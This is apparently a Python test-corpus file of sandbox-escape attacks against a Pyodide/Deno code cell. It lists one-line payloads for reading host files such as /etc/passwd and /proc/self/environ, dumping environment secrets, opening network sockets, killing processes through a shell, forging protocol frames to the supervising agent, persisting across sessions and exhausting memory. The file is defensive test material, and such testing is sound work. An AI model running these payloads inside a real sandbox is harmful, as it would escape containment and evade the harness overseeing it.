"""Attacks on the WebAssembly sandbox, as data; see `corpus` for what the fields mean.

Code in a cell has all of JavaScript within reach, and is meant to: these start from there. They re-enact the published
escapes from Pyodide (class walks, constructors' constructors, ctypes to Emscripten's functions, mounts of the host's
files), and go for what Deno's permissions don't cover: its cache, its streams, its memory, its threads.
"""

from __future__ import annotations

from corpus import Attack

PYODIDE = "pyodide"

PRELUDE = """
import os, socket, sys, time
import js, pyodide_js
from pyodide.code import run_js

def hit(text=""):
    print(facts["marker"], text)

async def js_of(code):
    value = run_js("(async (facts) => {" + code + "})")
    from pyodide.ffi import to_js
    return await value(to_js(facts, dict_converter=js.Object.fromEntries))
"""


def _attack(name: str, goal: str, code: str, then: str = "", seconds: float = 2.0) -> Attack:
    return Attack(name, goal, code, (), then, (PYODIDE,), seconds=seconds)


def _script(name: str, goal: str, code: str, then: str = "", seconds: float = 2.0) -> Attack:
    """JavaScript whose value, if it has one, is shown."""
    return _attack(name, goal, f"print(await js_of({code!r}))", then, seconds)


_NODE_READ = "const fs = await import('node:fs'); return fs.readFileSync({path}, 'utf8')"
_CHAIN = "(() => {}).constructor.constructor('return this')()"

FILES = [
    _attack("open a file of the host", "files", "print(open(facts['secret']).read())"),
    _attack("list the host's root", "files", "if os.path.exists(facts['folder']): hit()"),
    _script("Deno's own reading", "files", "return Deno.readTextFileSync(facts.secret)"),
    _script(
        "Deno by a constructor's constructor", "files", f"return {_CHAIN}.Deno.readTextFileSync(facts.secret)"
    ),
    _script("node's files", "files", _NODE_READ.format(path="facts.secret")),
    _script("accounts by node's files", "files", _NODE_READ.format(path="'/etc/passwd'")),
    _script("own memory map by node's files", "files", _NODE_READ.format(path="'/proc/self/environ'")),
    _script(
        "node's promises", "files", "return (await import('node:fs/promises')).readFile(facts.secret, 'utf8')"
    ),
    _script("require", "files", "return require('fs').readFileSync(facts.secret, 'utf8')"),
    _script(
        "require made by node's module",
        "files",
        "return (await import('node:module')).createRequire('file:///')('fs').readFileSync(facts.secret, 'utf8')",
    ),
    _script(
        "a fresh context of node's",
        "files",
        "return (await import('node:vm')).runInNewContext('Deno.readTextFileSync(\"' + facts.secret + '\")')",
    ),
    _script("fetch a file", "files", "return await (await fetch('file://' + facts.secret)).text()"),
    _attack(
        "Pyodide's own fetch of a file",
        "files",
        "from pyodide.http import pyfetch\nprint(await (await pyfetch('file://' + facts['secret'])).string())",
    ),
    _script(
        "import a file as JSON",
        "files",
        "return (await import('file://' + facts.secret, {with: {type: 'json'}})).default.key",
    ),
    _script(
        "import a file as text",
        "files",
        "return (await import('file://' + facts.secret, {with: {type: 'text'}})).default",
    ),
    _attack(
        "mount the host's files",
        "files",
        "fs = pyodide_js.FS\nfs.mkdir('/host')\nfs.mount(fs.filesystems.NODEFS, js.Object.fromEntries([['root', '/']]), '/host')\n"
        "print(open('/host' + facts['secret']).read())",
    ),
    _attack(
        "mount by Pyodide",
        "files",
        "pyodide_js.mountNodeFS('/h', '/')\nprint(open('/h' + facts['secret']).read())",
    ),
    _attack(
        "Pyodide's loader of files",
        "files",
        "print((await pyodide_js._api.loadBinaryFile('file://' + facts['secret'])).to_bytes())",
    ),
    _attack(
        "a script by ctypes",
        "files",
        "import ctypes\nlib = ctypes.CDLL(None)\nlib.emscripten_run_script_string.restype = ctypes.c_char_p\n"
        "print(lib.emscripten_run_script_string(b\"Deno.readTextFileSync('\" + facts['secret'].encode() + b\"')\"))",
    ),
    _attack(
        "a class walk to the loader",
        "files",
        "for each in ().__class__.__base__.__subclasses__():\n"
        "    if 'Loader' in each.__name__:\n"
        "        try:\n            print(each('x', facts['secret']).get_data(facts['secret']))\n        except Exception:\n            pass",
    ),
]

SECRETS = [
    _attack("own environment", "environment", "print(dict(os.environ))"),
    _script("Deno's environment", "environment", "return JSON.stringify(Deno.env.toObject())"),
    _script("node's environment", "environment", "return JSON.stringify((await import('node:process')).env)"),
    _script(
        "node's process by its default",
        "environment",
        "return JSON.stringify((await import('node:process')).default.env)",
    ),
    _script(
        "a built-in module by name",
        "environment",
        "return JSON.stringify((await import('node:process')).default.getBuiltinModule('process').env)",
    ),
    _script(
        "where the host's programs are",
        "environment",
        "const p = await import('node:process'); const said = [p.execPath, p.argv, p.cwd(), p.title].join(' ');"
        "return said.includes(facts.prefix) ? facts.marker + said : ''",
    ),
    _script(
        "where the runtime is, by errors",
        "environment",
        "const said = new Error().stack + JSON.stringify(globalThis.location ?? ''); return said.includes(facts.prefix) ? facts.marker : ''",
    ),
    _script(
        "the name of the machine",
        "environment",
        "const o = await import('node:os'); return facts.marker + o.hostname()",
    ),
    _script(
        "the user of the machine",
        "environment",
        "const o = await import('node:os'); return facts.marker + o.userInfo().username",
    ),
]

NETWORK = [
    _attack("connect by Python", "network", "socket.create_connection(tuple(facts['tcp']), 2).send(b'x')"),
    _attack(
        "a datagram by Python",
        "network",
        "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', tuple(facts['udp']))",
    ),
    _attack("a path by Python", "network", "socket.socket(socket.AF_UNIX).connect(facts['unix'])"),
    _attack(
        "urllib",
        "network",
        "import urllib.request\nurllib.request.urlopen('http://%s:%d/' % tuple(facts['tcp']), timeout=2)",
    ),
    _attack(
        "Pyodide's fetch",
        "network",
        "from pyodide.http import pyfetch, open_url\nawait pyfetch('http://%s:%d/' % tuple(facts['tcp']))",
    ),
    _attack(
        "a synchronous request",
        "network",
        "from pyodide.http import open_url\nopen_url('http://%s:%d/' % tuple(facts['tcp']))",
    ),
    _script("fetch", "network", "await fetch('http://' + facts.tcp.join(':'))"),
    _script("fetch by a constructor", "network", f"await {_CHAIN}.fetch('http://' + facts.tcp.join(':'))"),
    _script("import from the host", "network", "await import('http://' + facts.tcp.join(':') + '/x.js')"),
    _script("import from a package registry", "network", "await import('npm:left-pad'); return facts.marker"),
    _script("import from another", "network", "await import('jsr:@std/assert'); return facts.marker"),
    _script("import from a site", "network", "await import('https://esm.sh/left-pad'); return facts.marker"),
    _script(
        "import inside of imported text",
        "network",
        "await import('data:text/javascript,' + encodeURIComponent(\"await import('http://\" + facts.tcp.join(':') + \"/x.js')\"))",
    ),
    _script(
        "a web socket",
        "network",
        "new WebSocket('ws://' + facts.tcp.join(':')); await new Promise((r) => setTimeout(r, 300))",
    ),
    _script(
        "node's sockets",
        "network",
        "const n = await import('node:net'); n.connect(facts.tcp[1], facts.tcp[0]).on('error', () => 0); await new Promise((r) => setTimeout(r, 300))",
    ),
    _script(
        "node's socket to a path",
        "network",
        "const n = await import('node:net'); n.connect(facts.unix).on('error', () => 0); await new Promise((r) => setTimeout(r, 300))",
    ),
    _script(
        "node's datagrams",
        "network",
        "const d = await import('node:dgram'); d.createSocket('udp4').send('x', facts.udp[1], facts.udp[0]); await new Promise((r) => setTimeout(r, 300))",
    ),
    _script(
        "node's requests",
        "network",
        "const h = await import('node:http'); h.get('http://' + facts.tcp.join(':')).on('error', () => 0); await new Promise((r) => setTimeout(r, 300))",
    ),
    _script(
        "ask for a name",
        "network",
        "const d = await import('node:dns/promises'); d.setServers([facts.udp.join(':')]); await d.resolve4('secret.example.com')",
    ),
    _script(
        "listen",
        "network",
        "const n = await import('node:net'); await new Promise((r, j) => n.createServer().listen(0, r).on('error', j)); return facts.marker",
    ),
    _attack("install a package", "network", "await pyodide_js.loadPackage('numpy')\nimport numpy\nhit()"),
]

WRITES = [
    _attack("write a file by Python", "files", "open(facts['target'], 'w').write('changed')"),
    _script("node's writing", "files", "(await import('node:fs')).writeFileSync(facts.target, 'changed')"),
    _script("node's deleting", "files", "(await import('node:fs')).rmSync(facts.target)"),
    _script("Deno's writing", "files", "Deno.writeTextFileSync(facts.target, 'changed')"),
    _script(
        "a link in a folder",
        "files",
        "(await import('node:fs')).symlinkSync(facts.secret, '/tmp/' + facts.note)",
    ),
    _script(
        "a database",
        "files",
        "const s = await import('node:sqlite'); new s.DatabaseSync('/tmp/' + facts.note).exec('create table x (y)'); return facts.marker",
    ),
]

PROCESSES = [
    _attack(
        "a process by Python",
        "processes",
        "import subprocess\nsubprocess.run(['kill', '-9', str(facts['victim'])])",
    ),
    _attack("a shell by Python", "processes", "print(os.system('kill -9 %d' % facts['victim']))"),
    _attack("fork", "processes", "if os.fork() >= 0: hit()"),
    _attack("kill by Python", "processes", "os.kill(facts['victim'], 9)"),
    _script(
        "node's processes",
        "processes",
        "(await import('node:child_process')).spawnSync('kill', ['-9', String(facts.victim)])",
    ),
    _script("node's kill", "processes", "(await import('node:process')).kill(facts.victim, 'SIGKILL')"),
    _script(
        "Deno's processes",
        "processes",
        "new Deno.Command('kill', {args: ['-9', String(facts.victim)]}).outputSync()",
    ),
    _script(
        "a shared library",
        "processes",
        "(await import('node:process')).dlopen({exports: {}}, '/lib/x86_64-linux-gnu/libc.so.6'); return facts.marker",
    ),
    _attack(
        "the loader of machine code",
        "processes",
        "import ctypes\nctypes.CDLL('/lib/x86_64-linux-gnu/libc.so.6').getpid()\nhit()",
    ),
]

# A frame as the host expects it, but for the token: what would end the cell with an answer of the attacker's.
_FORGED = (
    "const head = new TextEncoder().encode(JSON.stringify({op: 'stream', cell: 1, name: 'stdout'}));"
    "const body = new TextEncoder().encode(facts.marker); const frame = new Uint8Array(29 + head.length + body.length);"
    "const view = new DataView(frame.buffer); view.setUint32(0, frame.length - 4, true); view.setUint8(24, 1);"
    "view.setUint32(25, head.length, true); frame.set(head, 29); frame.set(body, 29 + head.length);"
)
FRAMES = [
    _script("forge by node's files", "frames", _FORGED + "(await import('node:fs')).writeSync(1, frame)"),
    _script(
        "forge by node's stream", "frames", _FORGED + "(await import('node:process')).stdout.write(frame)"
    ),
    _script("forge by the console", "frames", _FORGED + "console.log(String.fromCharCode(...frame))"),
    _script(
        "forge by node's console",
        "frames",
        _FORGED + "(await import('node:console')).log(String.fromCharCode(...frame))",
    ),
    _attack("forge by Python's descriptor", "frames", "os.write(1, bytes([90, 0, 0, 0]) + bytes(86))"),
    _script(
        "forge by a thread of node's",
        "frames",
        "const w = await import('node:worker_threads');"
        "new w.Worker(\"require('fs').writeSync(1, new Uint8Array(90))\", {eval: true}); await new Promise((r) => setTimeout(r, 300))",
    ),
    _script(
        "forge by a worker",
        "frames",
        "new Worker(URL.createObjectURL(new Blob(['Deno.stdout.writeSync(new Uint8Array(90))'])), {type: 'module'}); await new Promise((r) => setTimeout(r, 300))",
    ),
    _script(
        "read the host's frames",
        "frames",
        "const b = new Uint8Array(64); const n = (await import('node:fs')).readSync(0, b); return facts.marker + n",
    ),
    _script(
        "speak to the supervisor", "frames", "postMessage({header: JSON.stringify({op: 'done', cell: 1e9})})"
    ),
    _script(
        "speak to the supervisor by node",
        "frames",
        "const w = await import('node:worker_threads'); w.parentPort.postMessage({header: 5})",
    ),
    _attack(
        "answer for the host",
        "frames",
        "js.dispatchEvent(js.MessageEvent.new('message', js.Object.fromEntries([['data', js.Object.fromEntries([['op', 'boot']])]])))",
    ),
    _attack(
        "speak by the agent's own means",
        "frames",
        "from _rlm_agent import agent\nagent._agent.tell({'op': 'stream', 'cell': 999999, 'name': 'stdout'}, b'x')",
    ),
    _attack(
        "send what is no message",
        "frames",
        "from _rlm_agent import agent\nagent._agent._send('[1, 2]', None, True)",
    ),
    _attack(
        "announce other sizes",
        "frames",
        "from _rlm_agent import agent\nagent._agent.tell({'op': 'ask', 'cell': 1, 'sizes': [1 << 40], 'password': False}, b'x')",
    ),
]

TAMPERING = [
    _attack(
        "replace the writer of JSON",
        "agent",
        'import json\njson.dumps = lambda *a, **k: \'{"op": "ready", "python": "x"}\'\n1/0',
    ),
    _attack(
        "replace the agent's functions",
        "agent",
        "from _rlm_agent import agent\nfor name in list(vars(agent)): setattr(agent, name, None)",
    ),
    _attack(
        "empty builtins",
        "agent",
        "import builtins\nfor name in list(vars(builtins)):\n    delattr(builtins, name)",
    ),
    _attack(
        "close the streams",
        "agent",
        "import sys\nsys.stdout.close(); sys.stderr.close(); sys.stdout = sys.stderr = None",
    ),
    _attack(
        "an error without a text",
        "agent",
        "class E(Exception):\n    def __str__(self): raise SystemExit\nraise E",
    ),
    _attack(
        "an endless text",
        "agent",
        "class E(Exception):\n    def __str__(self): return 'x' * 300_000_000\nraise E",
    ),
    _attack(
        "an endless repr",
        "agent",
        "class R:\n    def __repr__(self):\n        while True: pass\nR()",
        seconds=1.0,
    ),
    _attack("leave by SystemExit", "agent", "raise SystemExit(1)"),
    _attack("leave by os._exit", "agent", "os._exit(3)"),
    _attack("abort", "agent", "os.abort()"),
    _script("leave by node", "agent", "(await import('node:process')).exit(0)"),
    _script("close the worker", "agent", "close(); self.close()"),
    _script(
        "a promise left behind",
        "agent",
        "Promise.reject(new Error('left')); setTimeout(() => { throw new Error('late') }, 0)",
    ),
    _attack("endless recursion", "agent", "f = lambda n: f(n + 1)\nf(0)"),
    _attack("deep parentheses", "agent", "eval('(' * 100000 + ')' * 100000)"),
    _attack("recursion in JavaScript", "agent", "run_js('function f() { f() } f()')"),
    _script(
        "prototypes with traps",
        "agent",
        "Object.prototype.op = 'done'; Object.prototype.body = 5; Array.prototype.push = null",
    ),
]

SESSIONS = [
    _script(
        "a note in Deno's cache",
        "sessions",
        "const c = await caches.open('left'); await c.put('http://left/' + facts.number, new Response('left'))",
        then="print(await js_of(\"const c = await caches.open('left'); return await c.match('http://left/' + facts.number) ? facts.marker : ''\"))",
    ),
    _script(
        "a note in storage",
        "sessions",
        "localStorage.setItem('left', '1')",
        then="print(await js_of(\"return localStorage.getItem('left') ? facts.marker : ''\"))",
    ),
    _attack(
        "a note in Python's files",
        "sessions",
        "for path in ('/tmp/left', '/home/pyodide/left', '/lib/python3.14/left.py'):\n"
        "    try:\n        open(path, 'w').write('left = 1')\n    except OSError:\n        pass",
        then="for path in ('/tmp/left', '/home/pyodide/left', '/lib/python3.14/left.py'):\n    if os.path.exists(path): hit(path)",
    ),
    _attack(
        "a changed module",
        "sessions",
        "import json, collections\njson.left = collections.left = 1",
        then="import json, collections\nif hasattr(json, 'left') or hasattr(collections, 'left'): hit()",
    ),
    _script(
        "a channel to other sessions",
        "sessions",
        "new BroadcastChannel('left').postMessage('x'); return facts.marker",
    ),
]

# With the limits of the tests: 256 MiB of WebAssembly's memory, 700 MiB of the process, 64 threads.
EXHAUSTION = [
    _attack("memory by a list", "exhaustion", "held = []\nwhile True: held.append(bytearray(1 << 24))"),
    _attack("memory by a text", "exhaustion", "held = 'x'\nwhile True: held += held"),
    _script(
        "memory outside of WebAssembly's",
        "exhaustion",
        "const held = []; for (;;) held.push(new Uint8Array(1 << 24).fill(1))",
    ),
    _script(
        "memory of scripts",
        "exhaustion",
        "const held = []; for (;;) held.push({a: [1, 2, 3], b: {c: String(held.length)}})",
    ),
    _script(
        "memory that is shared",
        "exhaustion",
        "const held = []; for (;;) held.push(new Uint8Array(new SharedArrayBuffer(1 << 24)).fill(1))",
    ),
    _script(
        "another memory of WebAssembly's",
        "exhaustion",
        "const held = []; for (;;) held.push(new Uint8Array(new WebAssembly.Memory({initial: 1000}).buffer).fill(1))",
    ),
    _script(
        "many threads",
        "exhaustion",
        "const w = await import('node:worker_threads'); const held = []; for (let i = 0; i < 200; i++) held.push(new w.Worker('for(;;){}', {eval: true})); await new Promise((r) => setTimeout(r, 3000)); return facts.marker",
    ),
    _script("an endless loop of scripts", "exhaustion", "for (;;) {}", seconds=0.5),
    _attack(
        "swallowed interrupts",
        "exhaustion",
        "while True:\n    try:\n        while True: pass\n    except BaseException:\n        pass",
        seconds=0.5,
    ),
    _attack(
        "a blocked handler",
        "exhaustion",
        "import signal\nsignal.signal(signal.SIGINT, lambda *a: None)\nwhile True: pass",
        seconds=0.5,
    ),
    _attack(
        "a catastrophic expression",
        "exhaustion",
        "import re\nre.match(r'(a+)+$', 'a' * 40 + 'b')",
        seconds=0.5,
    ),
    _attack("a large power", "exhaustion", "pow(7, 10**9) % 3", seconds=0.5),
    _attack("waiting for ever", "exhaustion", "import asyncio\nawait asyncio.Event().wait()", seconds=0.5),
    _attack("a flood of text", "exhaustion", "for _ in range(2000): print('x' * 1_000_000)", seconds=8.0),
    _attack("a flood of lines", "exhaustion", "while True: print('line')", seconds=1.0),
    _attack("a flood of displays", "exhaustion", "for _ in range(20_000): display('x' * 1000)", seconds=8.0),
    _attack(
        "a flood of descriptors' bytes",
        "exhaustion",
        "for _ in range(500): os.write(1, b'x' * 1_000_000)",
        seconds=8.0,
    ),
    _attack(
        "a flood past the agent",
        "exhaustion",
        "from _rlm_agent import agent\nimport js\nbody = js.Uint8Array.new(1 << 20)\n"
        'while True: agent._agent._send(\'{"op": "stream", "cell": 1, "name": "stdout"}\', body, True)',
    ),
]

ATTACKS = [*FILES, *SECRETS, *NETWORK, *WRITES, *PROCESSES, *FRAMES, *TAMPERING, *SESSIONS, *EXHAUSTION]
